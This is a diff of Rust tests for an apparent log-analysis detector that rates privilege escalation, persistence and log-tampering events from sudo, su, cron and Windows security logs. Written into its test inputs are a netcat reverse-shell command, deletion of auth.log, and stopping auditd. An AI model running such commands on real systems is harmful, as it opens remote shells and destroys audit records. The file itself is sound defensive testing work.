@@ -64,7 +64,7 @@ fn joining_the_administrators_depends_on_who_was_at_work() {
         check(&said(NIGHT, &[("cloud-init", "Cloud-init v. 23.1 running 'modules:config'"), joined]), &say("LOW"));
         check(
             &said(NIGHT, &[("systemd", "Starting apt-daily-upgrade.service - Daily apt upgrade..."), joined]),
-            &say("LOW"),
+            &say("MEDIUM"),
         );
         check(&said(NIGHT, &[("ansible-user", "Invoked with name=bob groups=['sudo']"), joined]), &say("LOW"));
     }
@@ -243,14 +243,16 @@ const NOT_ALLOWED: &str =
 #[test]
 fn refusals_by_sudo_and_su() {
     let tries = |severity: &str| format!("{severity} privilege_escalation: bob tries for root's rights on web");
-    for (app, text) in [
-        ("sudo", NOT_ALLOWED),
-        ("sudo", "bob : command not allowed ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/sh"),
-        ("su", "FAILED SU (to root) bob on pts/0"),
-        ("su", "FAILED su for root by bob"),
-        ("su", "BAD SU bob to root on /dev/ttyp0"),
+    let (alone, mistyped) = (tries("LOW"), String::new());
+    for (app, text, once) in [
+        ("sudo", NOT_ALLOWED, &alone),
+        ("sudo", "bob : command not allowed ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/sh", &alone),
+        ("sudo", "bob : 1 incorrect password attempt ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh", &mistyped),
+        ("su", "FAILED SU (to root) bob on pts/0", &mistyped),
+        ("su", "FAILED su for root by bob", &mistyped),
+        ("su", "BAD SU bob to root on /dev/ttyp0", &mistyped),
     ] {
-        check(&said(0.0, &[(app, text)]), &tries("LOW"));
+        check(&said(0.0, &[(app, text)]), once);
         check(&said(0.0, &[(app, text); 3]), &format!("{}\n{}", tries("LOW"), tries("MEDIUM")));
     }
     let wrong = "bob : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/sh";
@@ -271,8 +273,7 @@ fn ordinary_refusals_stay_low() {
     for at in 0..2 {
         hub.feed(30_000.0 + f64::from(at), "web", line("su", 0, "FAILED SU (to alice) bob on pts/0"));
     }
-    assert!(hub.said.iter().all(|finding| finding.floor.as_str() == "LOW"), "{}", hub.text());
-    assert_eq!(hub.alerts(), 1);
+    check(&hub.text(), "");
 }
 
 #[test]
@@ -291,4 +292,98 @@ fn a_thousand_refusals_are_one_alert_and_late_ones_are_judged_in_their_time() {
         hub.feed_late(TEN + i64::from(at) * 1_200_000, TEN + 90_000_000, "web", body);
     }
     assert!(hub.said.iter().all(|finding| finding.floor.as_str() == "LOW"), "{}", hub.text());
+}
+
+/// That a tool is there, looks for news or has nothing to do is no work, and few tools set accounts.
+#[test]
+fn what_a_tool_says_in_passing_explains_nothing() {
+    let joined = ("usermod", "add 'mallory' to group 'wheel'");
+    let password = ("passwd", "password for 'root' changed by 'root'");
+    for (app, text, group, root, stops) in [
+        ("dnf", "Metadata cache refreshed recently.", "HIGH", "HIGH", "HIGH"),
+        ("snapd", "daemon.go:247: started snapd/2.61 (series 16; classic)", "HIGH", "HIGH", "HIGH"),
+        ("puppet-agent", "Applied catalog in 2.31 seconds", "HIGH", "HIGH", "HIGH"),
+        ("sssd", "Starting up", "HIGH", "HIGH", "HIGH"),
+        ("realmd", "claimed name on bus", "HIGH", "HIGH", "HIGH"),
+        ("systemd", "Started packagekit.service - PackageKit Daemon.", "HIGH", "HIGH", "HIGH"),
+        ("dpkg", "status installed nginx:amd64 1.24", "MEDIUM", "MEDIUM", "LOW"),
+        ("ansible-ansible.builtin.copy", "Invoked with src=a dest=b", "MEDIUM", "MEDIUM", "LOW"),
+        ("ansible-user", "Invoked with name=mallory groups=['wheel']", "LOW", "LOW", "LOW"),
+        (
+            "puppet-agent",
+            "(/Stage[main]/Base/User[mallory]/groups) groups changed [] to ['wheel']",
+            "LOW",
+            "LOW",
+            "LOW",
+        ),
+    ] {
+        let joined = said(NIGHT, &[(app, text), joined]);
+        assert!(joined.starts_with(&format!("{group} privilege_escalation")), "{app} {text}: {joined}");
+        let password = said(NIGHT, &[(app, text), password]);
+        assert!(password.starts_with(&format!("{root} persistence")), "{app} {text}: {password}");
+        let stopped = said(NIGHT, &[(app, text), ("CRON", "(root) CMD (systemctl stop auditd)")]);
+        assert!(stopped.starts_with(&format!("{stops} log_tampering")), "{app} {text}: {stopped}");
+    }
+}
+
+/// A host that renews its administrator's password tells so each month; who changes accounts is known the next day.
+#[test]
+fn windows_hosts_and_administrators_of_their_own() {
+    let reset = |subject: &str, sid: &str| {
+        format!(
+            r#"{{"EventID":4724,"Channel":"Security","TargetUserName":"Administrator","SubjectUserName":"{subject}","SubjectUserSid":"{sid}"}}"#
+        )
+    };
+    let rendered = "4724: An attempt was made to reset an account's password.  Subject:  Security ID:  S-1-5-18  Account Name:  WIN10-017$  \
+                    Account Domain:  X  Target Account:  Security ID:  S-1-5-21-1-500  Account Name:  Administrator  Account Domain:  WIN10-017";
+    for (text, severity) in [
+        (reset("WIN10-017$", "S-1-5-18"), "INFO"),
+        (reset("WEB$", "S-1-5-21-1"), "INFO"),
+        (rendered.into(), "INFO"),
+        (reset("WIN10-018$", "S-1-5-21-1"), "HIGH"),
+        (reset("mallory", "S-1-5-21-1"), "HIGH"),
+    ] {
+        let said = said(NIGHT, &[("Microsoft-Windows-Security-Auditing", &text)]);
+        assert!(said.starts_with(&format!("{severity} persistence")), "{text}: {said}");
+    }
+    let joined = r#"{"EventID":4728,"Channel":"Security","TargetUserName":"Domain Admins","MemberName":"CN=eve","SubjectUserName":"helpdesk"}"#;
+    let mut hub = Hub::new();
+    hub.feed(0.0, "web", line("", 0, joined));
+    hub.feed(NIGHT, "web", line("", 0, joined));
+    let floors: Vec<_> = hub.said.iter().map(|finding| finding.floor.as_str()).collect();
+    assert_eq!(floors, ["MEDIUM", "LOW"], "{}", hub.text());
+}
+
+#[test]
+fn a_service_that_gives_cron_work() {
+    for (lines, severity) in [
+        (&[("crontab", "(www-data) REPLACE (www-data)")][..], "HIGH persistence: www-data on web is the account"),
+        (&[SUDO, ("crontab", "(www-data) REPLACE (www-data)")], "LOW persistence: www-data on web is the account"),
+        (&[("crontab", "(root) REPLACE (www-data)")], ""),
+        (&[("crontab", "(bob) REPLACE (bob)")], ""),
+        (&[("crontab", "(www-data) LIST (www-data)")], ""),
+    ] {
+        let said = said(0.0, lines);
+        assert!(said.starts_with(severity) && said.is_empty() == severity.is_empty(), "{lines:?}: {said}");
+    }
+}
+
+/// A name as long as a line may be is not kept as it is.
+#[test]
+fn long_names_are_cut() {
+    let mut hub = Hub::new();
+    let name = "x".repeat(60_000);
+    for text in [
+        format!("{name} : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh"),
+        format!("{name} : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/rm -f /var/log/auth.log"),
+        format!("{name} : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/nc -e /bin/sh 203.0.113.9 4444"),
+    ] {
+        hub.feed(0.0, "web", line("sudo", 0, &text));
+    }
+    hub.feed(1.0, "web", line("usermod", 0, &format!("add '{name}' to group 'sudo'")));
+    assert!(hub.alerts() >= 3, "{}", hub.text());
+    for finding in &hub.said {
+        assert!(finding.actor.as_ref().is_none_or(|actor| actor.len() <= 255), "{}", finding.message);
+        assert!(finding.message.len() < 1_000, "{}", finding.message);
+    }
 }
